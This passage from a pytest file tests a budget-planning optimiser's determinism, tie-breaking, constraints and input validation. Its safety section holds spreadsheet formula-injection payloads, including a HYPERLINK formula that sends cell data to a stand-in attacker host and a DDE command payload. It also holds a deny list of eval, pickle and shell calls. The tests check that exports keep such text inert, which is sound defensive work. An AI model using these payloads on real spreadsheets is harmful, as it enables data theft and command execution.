    plan = tp.optimize(tp.read_catalog(path), example.budget.scale(0.9), mip_gap=1e-3)
    plan.to_json(out / f"{name}.json")
    plan.to_csv(out / name)
"""


def test_exports_are_byte_identical_across_processes_and_row_orders(tmp_path: Path) -> None:
    # test_io.py compares runs inside one process; here two fresh processes with different
    # string-hash seeds (set and dict order of strings) solve the sample in its own row order
    # and shuffled.
    outs = []
    for seed in ("1", "2"):
        out = tmp_path / f"run{seed}"
        out.mkdir()
        env = {**os.environ, "PYTHONHASHSEED": seed}
        subprocess.run([sys.executable, "-c", _RUN, str(out)], check=True, env=env, timeout=120)
        outs.append(out)
    one, two = outs
    names = sorted(p.name for p in (one / "given").iterdir())
    assert names == ["costs.csv", "levels.csv", "selection.csv", "targets.csv", "yearly.csv"]
    for name in ("given", "shuffled"):  # run after run: every byte the same
        assert (one / f"{name}.json").read_bytes() == (two / f"{name}.json").read_bytes()
        for csv_name in names:
            assert (one / name / csv_name).read_bytes() == (two / name / csv_name).read_bytes()
    for csv_name in names:  # CSV rows are in id order: the row order of the catalogue does not show
        assert (one / "given" / csv_name).read_bytes() == (one / "shuffled" / csv_name).read_bytes(), csv_name
    # JSON keeps the catalogue's row order (and file row numbers); read back, the plans are equal by id.
    given, shuffled = tp.read_plan(one / "given.json"), tp.read_plan(one / "shuffled.json")
    assert list(shuffled.selection.index) != list(given.selection.index)
    ids = list(given.selection.index)
    for name in ("selection", "levels", "targets", "costs"):
        pd.testing.assert_frame_equal(getattr(shuffled, name).loc[ids], getattr(given, name), check_exact=True)
    assert (shuffled.total_value, shuffled.status) == (given.total_value, given.status)


def test_catalogue_frame_round_trip() -> None:
    rows = [
        {"id": "A", "priority": 1, "cost_2024": 1 * G, "alignment": "spbe;rb"},
        {"id": "B", "priority": 2, "cost_2024": 1 * G, "requires": "A"},
    ]
    catalog = make_catalog(rows)
    again = tp.Catalog.from_frame(catalog.to_frame().assign(note="x"))
    assert again["B"].requires == ("A",) and again["A"].alignment == ("SPBE", "RB")


def test_same_inputs_in_one_process_give_equal_plans(bogor: tp.Example) -> None:
    plans = [tp.optimize(bogor.catalog, bogor.budget.scale(0.9), mip_gap=1e-3) for _ in range(2)]
    one, two = plans
    for name in ("selection", "levels", "targets", "costs", "yearly"):
        pd.testing.assert_frame_equal(getattr(one, name), getattr(two, name), check_exact=True)
    assert (one.total_value, one.objective_value, one.mip_gap) == (two.total_value, two.objective_value, two.mip_gap)


# Ties. The documented rule (docs/model.md, "Objective and ties"): among plans of equal value, the
# fewest delayed start years, then the least money spent; programmes enter the model sorted by id, so
# the row order of the catalogue never changes the plan. Programmes equal in all of that ("twins")
# are not ordered by any stated rule yet: the issue asks for one, e.g. the smallest id runs first.
_TWIN_CASES = [
    (["A", "B"], 1),
    (["w", "x", "y", "z"], 2),
    (list("ABCDEFGH"), 3),
]


def _twins(ids: list[str], room: int, solver: str) -> list[str]:
    rows = [{"id": pid, "priority": 5, "cost_2024": 2 * G} for pid in ids]
    budget = tp.Budget(ceilings={2024: room * 2 * G + 0.5 * G})  # room for `room` of them
    return tp.optimize(make_catalog(rows), budget, solver=solver, mip_gap=0).selected_ids


@pytest.mark.parametrize("solver", ["highs", "cbc"])
def test_twins_do_not_depend_on_the_row_order(solver: str) -> None:
    for ids, room in _TWIN_CASES:
        chosen = sorted(_twins(ids, room, solver))
        assert len(chosen) == room
        assert sorted(_twins(ids[::-1], room, solver)) == chosen
        assert sorted(_twins(ids[1:] + ids[:1], room, solver)) == chosen


@pytest.mark.parametrize("solver", ["highs", "cbc"])
def test_twins_are_broken_by_the_smallest_id(solver: str) -> None:
    for ids, room in _TWIN_CASES:
        assert sorted(_twins(ids, room, solver)) == sorted(ids)[:room], (ids, room)


@st.composite
def linked_catalogues(draw: st.DrawFn) -> tuple[list[dict[str, Any]], dict[int, float]]:
    """Whole, scalable and flexible programmes with start windows, ``requires`` and exclusive groups."""
    years = list(range(2024, 2024 + draw(st.integers(1, 3), label="years")))
    rows: list[dict[str, Any]] = []
    for i in range(draw(st.integers(2, 7), label="programmes")):
        first = draw(st.integers(0, len(years) - 1))
        length = draw(st.integers(1, len(years) - first))
        row: dict[str, Any] = {
            "id": f"P{i}",
            "priority": draw(st.integers(0, 9)),
            "mode": draw(st.sampled_from(["whole", "whole", "scalable", "flexible"])),
            "earliest_start": years[first],
            "latest_start": years[draw(st.integers(first, len(years) - 1))],
            "exclusive_group": draw(st.sampled_from(["", "", "X", "Y"])),
            "group_required": False,
        }
        for t, y in enumerate(years):
            row[f"cost_{y}"] = draw(st.integers(1, 6)) * G if first <= t < first + length else 0.0
        # a requirement that may start no later than this programme (others are input errors)
        earlier = [r["id"] for r in rows if r["earliest_start"] <= row["earliest_start"]]
        chosen = draw(st.lists(st.sampled_from(earlier), max_size=2, unique=True)) if earlier else []
        row["requires"] = ";".join(chosen)
        rows.append(row)
    for group in ("X", "Y"):
        required = draw(st.booleans())
        for row in rows:
            if row["exclusive_group"] == group:
                row["group_required"] = required
    ceilings = {y: draw(st.integers(1, 15)) * G for y in years}
    return rows, ceilings


@given(case=linked_catalogues())
@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_requires_and_exclusive_groups_hold_on_random_catalogues(case: tuple[list[dict[str, Any]], dict]) -> None:
    # Checked here from the selection table, independently of Plan.check().
    rows, ceilings = case
    try:
        plan = tp.optimize(make_catalog(rows), tp.Budget(ceilings=ceilings), mip_gap=0)
    except tp.InfeasiblePlanError:
        event("infeasible")  # a required group none of whose members fits
        assert any(r["group_required"] for r in rows)
        return
    sel = plan.selection
    runs = {pid: bool(sel.at[pid, "runs"]) for pid in sel.index}
    start = {pid: int(sel.at[pid, "start_year"]) for pid in sel.index if runs[pid]}
    for row in rows:
        pid = row["id"]
        for needed in filter(None, row["requires"].split(";")):
            if runs[pid]:
                assert runs[needed], f"{pid} runs without {needed}"
                assert start[needed] <= start[pid], f"{needed} starts after {pid}"
    for group in ("X", "Y"):
        members = [r for r in rows if r["exclusive_group"] == group]
        running = sum(runs[r["id"]] for r in members)
        assert running <= 1
        if members and members[0]["group_required"]:
            assert running == 1
    for pid in start:
        row = next(r for r in rows if r["id"] == pid)
        assert row["earliest_start"] <= start[pid] <= row["latest_start"]
    spend = plan.costs.sum(axis=0)
    assert all(spend[y] <= ceilings[y] * (1 + 1e-6) for y in ceilings)


# ============================================================================ safety
HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"klik")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(A1)"]


@pytest.fixture(scope="module")
def hostile_plan() -> tp.Plan:
    """Hostile text in the catalogue itself: names, units, agencies and dimensions (test_io.py patches names in)."""
    rows = [
        {
            "id": f"P{i}",
            "name": text,
            "unit": HOSTILE[(i + 1) % 4],
            "agency": HOSTILE[(i + 2) % 4],
            "dimension": HOSTILE[(i + 3) % 4],
            "priority": 1 + i,
            "cost_2024": 1 * G,
            "target_2024": 1,
        }
        for i, text in enumerate(HOSTILE)
    ]
    catalog = make_catalog(rows)
    frame = catalog.to_frame()
    for column in ("name", "unit", "agency", "dimension"):
        assert set(frame[column]) == set(HOSTILE), column  # kept exactly as written, never evaluated
    return tp.optimize(catalog, tp.Budget(ceilings={2024: 3 * G}))


def test_hostile_catalogue_text_stays_text_in_excel(hostile_plan: tp.Plan, tmp_path: Path) -> None:
    path = hostile_plan.to_excel(tmp_path / "plan.xlsx")
    book = openpyxl.load_workbook(path)
    found: dict[str, set[str]] = {}
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value in HOSTILE:
                    assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.coordinate)
                    found.setdefault(ws.title, set()).add(cell.value)
    assert found["selection"] == set(HOSTILE)  # names, agencies, dimensions
    assert found["targets"] == set(HOSTILE)  # names and units
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


def test_hostile_catalogue_text_is_escaped_in_csv(hostile_plan: tp.Plan, tmp_path: Path) -> None:
    written = hostile_plan.to_csv(tmp_path / "csv")
    with written["selection"].open(encoding="utf-8", newline="") as handle:
        table = list(csv.DictReader(handle))
    for column in ("name", "agency", "dimension"):
        assert sorted(r[column] for r in table) == sorted("'" + h for h in HOSTILE), column
    for path in written.values():  # no cell of any table starts like a formula, except plain numbers
        with path.open(encoding="utf-8", newline="") as handle:
            for line in csv.reader(handle):
                for cell in line:
                    if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                        float(cell)


def test_reading_inputs_changes_no_file_and_writes_none(tmp_path: Path) -> None:
    # test_catalog.py checks a plain CSV, a workbook and an invalid CSV; here the semicolon
    # (Indonesian) CSV with a BOM and hostile text, a workbook read by a wrong sheet, and the
    # budget, limits and policy files.
    folder = tmp_path / "inputs"
    folder.mkdir()
    files = {
        "katalog.csv": "\ufeffkode;nama_program;prioritas;pagu_2024;satuan\n"
        'A;=HYPERLINK("x");3;1.250.000.000,50;@SUM(A1)\nB;-1+1;2,5;750.000;%\n',
        "pagu.csv": "tahun;pagu\n2024;5.000.000.000\n",
        "batas.csv": "kelompok_menurut;kelompok;batas_atas;sebagai_porsi\nsatuan;%;0,5;ya\n",
        "policy.toml": "continuity_floor = 0.5\n",
    }
    for name, text in files.items():
        (folder / name).write_bytes(text.encode("utf-8"))
    pd.DataFrame({"id": ["A"], "name": ["a"], "priority": [1], "cost_2024": [1e9]}).to_excel(
        folder / "katalog.xlsx", index=False
    )
    before = {p.name: (p.read_bytes(), p.stat().st_mtime_ns) for p in folder.iterdir()}
    catalog = tp.read_catalog(folder / "katalog.csv")
    assert catalog["A"].name == '=HYPERLINK("x")' and catalog["B"].unit == "%"
    with pytest.raises(tp.CatalogValidationError, match="the workbook has no sheet 'Nope'"):
        tp.read_catalog(folder / "katalog.xlsx", sheet="Nope")
    budget = tp.read_budget(folder / "pagu.csv", limits=folder / "batas.csv")
    policy = tp.read_policy(folder / "policy.toml")
    tp.optimize(catalog, budget, policy)
    after = {p.name: (p.read_bytes(), p.stat().st_mtime_ns) for p in folder.iterdir()}
    assert after == before  # same files, same bytes, same times: nothing written, nothing added


def test_optimize_and_exports_leave_the_inputs_unchanged(hostile_plan: tp.Plan, tmp_path: Path) -> None:
    catalog, budget, policy = hostile_plan.catalog, hostile_plan.budget, hostile_plan.policy
    frame, dumped = catalog.to_frame(), (budget.model_dump(), policy.model_dump())
    tp.optimize(catalog, budget, policy)
    hostile_plan.to_excel(tmp_path / "x.xlsx")
    hostile_plan.to_csv(tmp_path / "csv")
    hostile_plan.to_json(tmp_path / "x.json")
    pd.testing.assert_frame_equal(catalog.to_frame(), frame, check_exact=True)
    assert (budget.model_dump(), policy.model_dump()) == dumped


_EXECUTES = {"eval", "exec", "compile", "__import__", "execfile", "breakpoint"}
_UNSAFE_MODULES = {"pickle", "cPickle", "_pickle", "marshal", "shelve", "dill", "cloudpickle", "joblib", "yaml"}
_UNSAFE_ATTRIBUTES = {"read_pickle", "query", "eval", "load_module"}  # pandas query/eval run expressions
_SHELL = {("os", "system"), ("os", "popen")}


def test_source_never_evaluates_or_unpickles_anything() -> None:
    # A static check over every module of the package: no eval/exec, no pickle-like loaders,
    # no pandas query/eval (they evaluate expressions), no shell commands.
    sources = sorted(SRC.rglob("*.py"))
    assert len(sources) > 15
    problems = []
    for path in sources:
        tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
        where = path.relative_to(SRC)
        for node in ast.walk(tree):
            if isinstance(node, ast.Call):
                func = node.func
                if isinstance(func, ast.Name) and func.id in _EXECUTES:
                    problems.append(f"{where}:{node.lineno} calls {func.id}()")
                if isinstance(func, ast.Attribute) and func.attr in _UNSAFE_ATTRIBUTES:
                    problems.append(f"{where}:{node.lineno} calls .{func.attr}()")
                if isinstance(func, ast.Attribute) and isinstance(func.value, ast.Name):
                    if (func.value.id, func.attr) in _SHELL:
                        problems.append(f"{where}:{node.lineno} calls {func.value.id}.{func.attr}()")
                if any(k.arg == "shell" for k in node.keywords):
                    problems.append(f"{where}:{node.lineno} runs a shell")
            elif isinstance(node, ast.Import):
                for alias in node.names:
                    if alias.name.split(".")[0] in _UNSAFE_MODULES:
                        problems.append(f"{where}:{node.lineno} imports {alias.name}")
            elif isinstance(node, ast.ImportFrom) and (node.module or "").split(".")[0] in _UNSAFE_MODULES:
                problems.append(f"{where}:{node.lineno} imports from {node.module}")
    assert problems == []
    # and the plain text, in case of a call the AST walk above would not see as one (e.g. getattr tricks)
    text = "\n".join(p.read_text(encoding="utf-8") for p in sources)
    for needle in ("eval(", "exec(", "pickle.load", "pickle.loads", "__import__("):
        assert needle not in text.replace("literal_eval(", ""), needle


# ============================================================================ bad input not covered elsewhere
# test_catalog.py and test_budget_policy.py cover the other kinds (see the report of this change).
def _write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


@pytest.mark.parametrize(
    ("name", "data", "match", "problems"),
    [
        ("random.xlsx", bytes(range(256)) * 2, r"not an Excel workbook \(empty or damaged\)", 1),
        ("csv-text.xlsx", b"id,name,priority,cost_2024\nA,a,1,1\n", r"named \.xlsx but holds text.*Fix: rename it", 1),
        ("ragged.csv", b"id,name,priority,cost_2024\nA,a,1,1,5,6\n", r"rows 2 have more cells than the header", 1),
        (
            "letter.txt",
            b"Dear planner,\nthe budget, the catalogue, the limits: attached.\n",
            r"required column 'id' is missing.*the headers read: Dear planner",
            4,
        ),
    ],
    ids=["bytes-as-xlsx", "text-as-xlsx", "ragged-csv", "prose"],
)
def test_catalogue_file_that_is_not_a_table(tmp_path: Path, name: str, data: bytes, match: str, problems: int) -> None:
    with pytest.raises(tp.CatalogValidationError, match=f"(?s){match}") as info:
        tp.read_catalog(_write(tmp_path / name, data))
    assert len(info.value.failure_cases) == problems


def test_catalogue_in_json_is_not_a_table(tmp_path: Path) -> None:
    data = b'[{"id": "A", "name": "a", "priority": 1, "cost_2024": 1000000000}]'
    with pytest.raises(tp.CatalogValidationError, match=r"could not be read as a table|CSV .*or an Excel"):
        tp.read_catalog(_write(tmp_path / "katalog.json", data))


def test_cost_formula_without_a_value_is_reported(tmp_path: Path) -> None:
    """A workbook written by a program holds formulas without values: read for values, the cell
    looked blank, i.e. cost 0, silently. It is reported, in the catalogue and in the budget."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["id", "name", "priority", "cost_2024"])
    sheet.append(["A", "a", 3, "=2*1000000000"])
    sheet.append(["B", "b", "=1+1", 1e9])
    book.save(tmp_path / "katalog.xlsx")
    before = (tmp_path / "katalog.xlsx").read_bytes()
    with pytest.raises(tp.CatalogValidationError) as info:
        tp.read_catalog(tmp_path / "katalog.xlsx")
    text = str(info.value)
    assert "row 2, id A, column 'cost_2024': a formula without a value (value: '=2*1000000000')" in text
    assert "row 3, id B, column 'priority': a formula without a value (value: '=1+1')" in text
    assert "open it in Excel or LibreOffice and save it again, or write the number itself" in text
    assert (tmp_path / "katalog.xlsx").read_bytes() == before  # reading never writes
    # saved by a spreadsheet program, a formula keeps its value beside it and reads as that value
    calculated = tmp_path / "dihitung.xlsx"
    with zipfile.ZipFile(tmp_path / "katalog.xlsx") as src, zipfile.ZipFile(calculated, "w") as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"<f>2*1000000000</f><v />", b"<f>2*1000000000</f><v>2000000000</v>")
                data = data.replace(b"<f>1+1</f><v />", b"<f>1+1</f><v>2</v>")
                assert data.count(b"<v>2") == 2
            dst.writestr(item, data)
    catalog = tp.read_catalog(calculated)
    assert catalog.cost_matrix()[:, 0].tolist() == [2e9, 1e9]
    # the same in a budget file
    ceilings = openpyxl.Workbook()
    ceilings.active.append(["year", "ceiling"])
    ceilings.active.append([2024, "=5*1000000000"])
    ceilings.save(tmp_path / "pagu.xlsx")
    with pytest.raises(tp.BudgetValidationError, match=r"row 2, column 'ceiling': a formula without a value"):
        tp.read_budget(tmp_path / "pagu.xlsx")


def test_source_ceiling_for_an_unknown_source() -> None:
    catalog = make_catalog([{"id": "A", "priority": 1, "cost_2024": 1 * G, "cost_2024_DAK": 1 * G}])
    with pytest.raises(tp.BudgetValidationError, match=r"DKA.*did you mean 'DAK'"):
        tp.optimize(catalog, tp.Budget(ceilings={2024: 5 * G}, source_ceilings={"DKA": {2024: 0.1 * G}}))
